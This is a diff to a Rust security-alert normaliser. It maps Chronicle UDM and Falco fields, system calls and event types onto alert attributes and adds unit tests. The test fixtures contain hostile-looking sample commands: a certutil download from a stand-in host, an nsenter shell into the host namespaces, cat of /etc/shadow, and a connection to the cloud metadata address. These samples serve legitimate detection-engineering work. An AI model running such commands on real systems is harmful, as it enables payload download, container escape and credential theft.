@@ -114,6 +114,8 @@ pub enum Attr {
     CallTrace,
     /// Sysmon process access `GrantedAccess` mask.
     GrantedAccess,
+    /// The system call a Linux runtime sensor saw (Falco `evt.type`, auditd `syscall`).
+    Syscall,
     Text,
 }
 
@@ -138,6 +140,7 @@ impl Attr {
             "ticket_encryption" => Attr::TicketEncryption,
             "call_trace" => Attr::CallTrace,
             "granted_access" => Attr::GrantedAccess,
+            "syscall" => Attr::Syscall,
             "text" => Attr::Text,
             _ => return None,
         })
@@ -163,6 +166,7 @@ impl Attr {
             Attr::TicketEncryption => "ticket_encryption",
             Attr::CallTrace => "call_trace",
             Attr::GrantedAccess => "granted_access",
+            Attr::Syscall => "syscall",
             Attr::Text => "text",
         }
     }
@@ -182,6 +186,7 @@ impl Attr {
                 | Attr::Resource
                 | Attr::TicketEncryption
                 | Attr::GrantedAccess
+                | Attr::Syscall
         )
     }
 }
@@ -189,11 +194,14 @@ impl Attr {
 /// Field names (last path segments, lower-cased, or whole lower-cased paths) that carry
 /// each attribute, most specific first. Senders name the same thing many ways: Sysmon,
 /// Windows Security, ECS, OCSF, Splunk CIM, CloudTrail, GCP audit, Azure, Okta, GitHub,
-/// Kubernetes audit, Falco.
-const FIELD_NAMES: [(Attr, &[&str]); 18] = [
+/// Kubernetes audit, Falco, Chronicle UDM. Whole paths under UDM's nouns (`target.`,
+/// `principal.`, `metadata.`) also match as the tail of a longer path, where a multi-event
+/// rule keeps each event under its own key (`login.metadata.product_event_type`).
+const FIELD_NAMES: [(Attr, &[&str]); 19] = [
     (
         Attr::CommandLine,
         &[
+            "target.process.command_line",
             "commandline",
             "command_line",
             "processcommandline",
@@ -210,11 +218,19 @@ const FIELD_NAMES: [(Attr, &[&str]); 18] = [
     ),
     (
         Attr::ParentCommandLine,
-        &["parentcommandline", "parent_command_line", "parent_process_command_line", "process.parent.command_line", "initiatingprocesscommandline"],
+        &[
+            "parentcommandline",
+            "parent_command_line",
+            "parent_process_command_line",
+            "process.parent.command_line",
+            "initiatingprocesscommandline",
+            "proc.pcmdline",
+        ],
     ),
     (
         Attr::Image,
         &[
+            "target.process.file.full_path",
             "image",
             "newprocessname",
             "process_path",
@@ -226,6 +242,7 @@ const FIELD_NAMES: [(Attr, &[&str]); 18] = [
             "processname",
             "process.name",
             "processes.process_name",
+            "proc.exepath",
             "proc.name",
             "originalfilename",
             "filename",
@@ -245,6 +262,7 @@ const FIELD_NAMES: [(Attr, &[&str]); 18] = [
             "process.parent.name",
             "processes.parent_process_name",
             "initiatingprocessfilename",
+            "proc.pexepath",
             "proc.pname",
         ],
     ),
@@ -259,6 +277,9 @@ const FIELD_NAMES: [(Attr, &[&str]); 18] = [
     (
         Attr::Operation,
         &[
+            // UDM keeps the product's own name of the operation; `metadata.event_type` is
+            // UDM's category of event, read as the kind (below).
+            "metadata.product_event_type",
             "eventname",
             "protopayload.methodname",
             "methodname",
@@ -278,17 +299,35 @@ const FIELD_NAMES: [(Attr, &[&str]); 18] = [
     ),
     (Attr::Verb, &["verb"]),
     (Attr::Resource, &["objectref.resource", "resource"]),
-    (Attr::Registry, &["targetobject", "registry_path", "registry.path", "registry_key_name", "registry.key", "objectname"]),
+    (Attr::Registry, &["target.registry.registry_key", "targetobject", "registry_path", "registry.path", "registry_key_name", "registry.key", "objectname"]),
     (
         Attr::FilePath,
         // `RelativeTargetName` is the file or named pipe a share access (5145) reached.
-        &["targetfilename", "target_filename", "file_path", "file.path", "filepath", "file_name", "relativetargetname"],
+        // Falco's `fd.name` is a file's path, or a socket's endpoints (kept only when a path).
+        &["target.file.full_path", "targetfilename", "target_filename", "file_path", "file.path", "filepath", "file_name", "relativetargetname", "fd.name"],
     ),
     (Attr::Properties, &["properties"]),
     (Attr::TicketEncryption, &["ticketencryptiontype", "ticket_encryption_type"]),
     (Attr::CallTrace, &["calltrace", "call_trace"]),
     (Attr::GrantedAccess, &["grantedaccess", "granted_access"]),
+    (Attr::Syscall, &["evt.type", "syscall"]),
 ];
+
+/// UDM's nouns: a whole path starting with one also matches as the tail of a longer path.
+const UDM_NOUNS: [&str; 5] = ["metadata.", "target.", "principal.", "src.", "about."];
+
+/// The value at a dotted path: the whole path, or for UDM paths its tail under one key
+/// (the shortest such path, so the choice does not depend on map order).
+fn at_path<'a>(by_path: &'a HashMap<String, Observed>, name: &str) -> Option<&'a Observed> {
+    if let Some(o) = by_path.get(name) {
+        return Some(o);
+    }
+    if !UDM_NOUNS.iter().any(|n| name.starts_with(n)) {
+        return None;
+    }
+    let tail = format!(".{name}");
+    by_path.iter().filter(|(p, _)| p.ends_with(&tail)).min_by(|a, b| a.0.len().cmp(&b.0.len()).then(a.0.cmp(b.0))).map(|(_, o)| o)
+}
 
 /// The normalised reading of one alert.
 #[derive(Debug, Clone, Serialize)]
@@ -325,7 +364,7 @@ impl Event {
         });
         let mut values = HashMap::new();
         for (attr, names) in FIELD_NAMES {
-            let found = names.iter().find_map(|n| if n.contains('.') { by_path.get(*n) } else { by_leaf.get(*n) });
+            let found = names.iter().find_map(|n| if n.contains('.') { at_path(&by_path, n) } else { by_leaf.get(*n) });
             if let Some(v) = found {
                 values.insert(attr, v.clone());
             }
@@ -342,6 +381,22 @@ impl Event {
         {
             res.compared = Some(format!("{}/{}", res.text, sub.text));
         }
+        udm_processes(&by_path, &mut values);
+        // UDM's `metadata.event_type` is a category (`USER_LOGIN`), not an operation.
+        let udm_type = at_path(&by_path, "metadata.event_type");
+        if values.get(&Attr::Operation).is_some_and(|o| normalise_path(&o.path).ends_with("metadata.event_type")) {
+            values.remove(&Attr::Operation);
+        }
+        // A cloud service named as UDM's target application is the event's source.
+        if !values.contains_key(&Attr::EventSource)
+            && let Some(app) = at_path(&by_path, "target.application")
+            && (app.text.ends_with(".amazonaws.com") || app.text.ends_with(".googleapis.com"))
+        {
+            values.insert(Attr::EventSource, app.clone());
+        }
+        if values.get(&Attr::FilePath).is_some_and(|o| normalise_path(&o.path).ends_with("fd.name") && !o.text.starts_with('/')) {
+            values.remove(&Attr::FilePath);
+        }
         // A process's image is also the first word of its command line.
         if !values.contains_key(&Attr::Image)
             && let Some(cl) = values.get(&Attr::CommandLine)
@@ -349,7 +404,10 @@ impl Event {
         {
             values.insert(Attr::Image, Observed { path: cl.path.clone(), text: first, compared: None });
         }
-        let kind = kind_of(&values, &alert.source);
+        let kind = udm_type
+            .and_then(|t| udm_kind(&t.text))
+            .or_else(|| values.get(&Attr::Syscall).and_then(|s| syscall_kind(&s.text)))
+            .unwrap_or_else(|| kind_of(&values, &alert.source));
         let failed = failure(&by_path, &by_leaf, &values);
         let read_only = by_leaf.get("readonly").is_some_and(|o| o.text.eq_ignore_ascii_case("true"))
             || (kind == EventKind::K8sAudit
@@ -388,7 +446,7 @@ impl Event {
         let image = self.get(Attr::Image).map(|o| o.text.to_ascii_lowercase()).unwrap_or_default();
         if image.ends_with(".exe") || image.contains('\\') || self.get(Attr::EventId).is_some() {
             Platform::Windows
-        } else if image.starts_with('/') || !image.is_empty() {
+        } else if image.starts_with('/') || !image.is_empty() || self.get(Attr::Syscall).is_some() {
             Platform::Unix
         } else {
             Platform::Unknown
@@ -487,6 +545,62 @@ fn failure(by_path: &HashMap<String, Observed>, by_leaf: &HashMap<String, Observ
         "4776" => by_leaf.get("status").filter(|s| !matches!(s.text.trim(), "0x0" | "0")).cloned(),
         _ => None,
     }
+}
+
+/// UDM names two processes: `target.process` is the one started or acted on and
+/// `principal.process` the actor, its parent in a process launch. Without a target process
+/// the principal is the process the event is about.
+fn udm_processes(by_path: &HashMap<String, Observed>, values: &mut HashMap<Attr, Observed>) {
+    let principal_image = at_path(by_path, "principal.process.file.full_path");
+    let principal_cmd = at_path(by_path, "principal.process.command_line");
+    let has_target = by_path.keys().any(|p| p.starts_with("target.process.") || p.contains(".target.process."));
+    if has_target {
+        // The leaf `command_line` may have found the principal's: it is the parent's.
+        if values.get(&Attr::CommandLine).is_some_and(|o| principal_cmd.is_some_and(|p| p.path == o.path)) {
+            values.remove(&Attr::CommandLine);
+        }
+        if let Some(p) = principal_image {
+            values.entry(Attr::ParentImage).or_insert_with(|| p.clone());
+        }
+        if let Some(p) = principal_cmd {
+            values.entry(Attr::ParentCommandLine).or_insert_with(|| p.clone());
+        }
+    } else if let Some(p) = principal_image {
+        values.entry(Attr::Image).or_insert_with(|| p.clone());
+    }
+}
+
+/// The kind a UDM `metadata.event_type` names, where it names one.
+fn udm_kind(event_type: &str) -> Option<EventKind> {
+    let t = event_type.trim().to_ascii_uppercase();
+    Some(match t.as_str() {
+        "PROCESS_OPEN" | "PROCESS_INJECTION" => EventKind::ProcessAccess,
+        "PROCESS_MODULE_LOAD" => EventKind::ImageLoad,
+        "NETWORK_DNS" => EventKind::Dns,
+        "USER_LOGIN" | "USER_LOGOUT" => EventKind::Auth,
+        "SCHEDULED_TASK_CREATION" | "SCHEDULED_TASK_DELETION" | "SCHEDULED_TASK_ENABLE" | "SCHEDULED_TASK_DISABLE" | "SCHEDULED_TASK_MODIFICATION" => {
+            EventKind::ScheduledTask
+        }
+        _ if t.starts_with("PROCESS_") => EventKind::ProcessCreation,
+        _ if t.starts_with("FILE_") => EventKind::File,
+        _ if t.starts_with("REGISTRY_") => EventKind::Registry,
+        _ if t.starts_with("NETWORK_") => EventKind::Network,
+        _ if t.starts_with("SERVICE_") => EventKind::Service,
+        // Changes to accounts, groups and resources in a directory, SaaS or cloud audit log.
+        _ if t.starts_with("USER_") || t.starts_with("GROUP_") || t.starts_with("RESOURCE_") => EventKind::CloudApi,
+        _ => return None,
+    })
+}
+
+/// The kind a system call names, for the calls whose kind is plain.
+fn syscall_kind(syscall: &str) -> Option<EventKind> {
+    Some(match syscall.trim().to_ascii_lowercase().as_str() {
+        "execve" | "execveat" => EventKind::ProcessCreation,
+        "connect" | "accept" | "accept4" | "listen" | "bind" | "sendto" | "sendmsg" => EventKind::Network,
+        "open" | "openat" | "openat2" | "creat" | "unlink" | "unlinkat" | "rename" | "renameat" | "renameat2" | "symlink" | "symlinkat" | "link" | "linkat"
+        | "chmod" | "fchmod" | "fchmodat" | "mkdir" | "mkdirat" | "rmdir" => EventKind::File,
+        _ => return None,
+    })
 }
 
 fn kind_of(values: &HashMap<Attr, Observed>, source: &str) -> EventKind {
@@ -600,6 +714,67 @@ mod tests {
         assert!(okta.failed.is_some());
         let ok = Event::of(&alert(json!({"eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "readOnly": false})));
         assert!(ok.failed.is_none() && !ok.read_only);
+    }
+
+    #[test]
+    fn reads_udm_process_launches_and_their_principal() {
+        let e = Event::of(&alert(json!({
+            "metadata": {"event_type": "PROCESS_LAUNCH"},
+            "principal": {"process": {"file": {"full_path": "C:\\Windows\\System32\\cmd.exe"}, "command_line": "cmd /c run.bat"}},
+            "target": {"process": {"file": {"full_path": "C:\\Windows\\System32\\certutil.exe"}, "command_line": "certutil -urlcache -f http://x/a a"}}
+        })));
+        assert_eq!(e.kind, EventKind::ProcessCreation);
+        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("certutil"));
+        assert_eq!(e.image_name(Attr::ParentImage).as_deref(), Some("cmd"));
+        assert_eq!(e.get(Attr::CommandLine).unwrap().path, "fields.target.process.command_line");
+        assert_eq!(e.get(Attr::ParentCommandLine).unwrap().text, "cmd /c run.bat");
+        assert!(e.get(Attr::Operation).is_none(), "a UDM event type is a kind, not an operation");
+        // Without a target process, the principal is the process the event is about.
+        let net = Event::of(&alert(json!({
+            "metadata.event_type": "NETWORK_CONNECTION",
+            "principal.process.file.full_path": "/usr/bin/curl",
+            "principal.process.command_line": "curl http://x"
+        })));
+        assert_eq!(net.kind, EventKind::Network);
+        assert_eq!(net.image_name(Attr::Image).as_deref(), Some("curl"));
+        assert_eq!(net.get(Attr::CommandLine).unwrap().text, "curl http://x");
+    }
+
+    #[test]
+    fn reads_udm_audit_records_under_their_event_keys() {
+        let e = Event::of(&alert(json!({
+            "login": {"metadata.event_type": "USER_LOGIN", "metadata.product_event_type": "ConsoleLogin"},
+            "api": {"metadata.event_type": "USER_RESOURCE_UPDATE_CONTENT", "target.application": "iam.amazonaws.com"}
+        })));
+        assert_eq!(e.get(Attr::Operation).unwrap().text, "ConsoleLogin");
+        assert_eq!(e.get(Attr::Operation).unwrap().path, "fields.login[\"metadata.product_event_type\"]");
+        assert_eq!(e.get(Attr::EventSource).unwrap().text, "iam.amazonaws.com");
+        // Of two events, the kind is read from the shorter path (`api.…`), so the choice does not depend on map order.
+        assert_eq!(e.kind, EventKind::CloudApi);
+        let o365 = Event::of(&alert(json!({"metadata.event_type": "USER_LOGIN", "target.application": "AzureActiveDirectory"})));
+        assert_eq!(o365.kind, EventKind::Auth);
+        assert!(o365.get(Attr::EventSource).is_none(), "only a cloud service name is an event source");
+        let file = Event::of(&alert(json!({"metadata.event_type": "FILE_CREATION", "target.file.full_path": "/etc/cron.d/x"})));
+        assert_eq!((file.kind, file.get(Attr::FilePath).unwrap().text.as_str()), (EventKind::File, "/etc/cron.d/x"));
+    }
+
+    #[test]
+    fn reads_falco_output_fields() {
+        let e = Event::of(&alert(json!({
+            "evt.type": "setns", "proc.name": "nsenter", "proc.exepath": "/usr/bin/nsenter",
+            "proc.cmdline": "nsenter -t 1 -m sh", "proc.pname": "bash", "proc.pcmdline": "bash -i"
+        })));
+        assert_eq!(e.get(Attr::Syscall).unwrap().text, "setns");
+        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("nsenter"));
+        assert_eq!(e.get(Attr::ParentCommandLine).unwrap().text, "bash -i");
+        assert_eq!(e.kind, EventKind::ProcessCreation);
+        assert_eq!(e.platform(), Platform::Unix);
+        let open = Event::of(&alert(json!({"evt.type": "openat", "fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow"})));
+        assert_eq!(open.kind, EventKind::File);
+        assert_eq!(open.get(Attr::FilePath).unwrap().text, "/etc/shadow");
+        let conn = Event::of(&alert(json!({"evt.type": "connect", "fd.name": "10.0.0.5:43210->169.254.169.254:80", "proc.cmdline": "curl x"})));
+        assert_eq!(conn.kind, EventKind::Network);
+        assert!(conn.get(Attr::FilePath).is_none(), "a socket's endpoints are not a file path");
     }
 
     #[test]
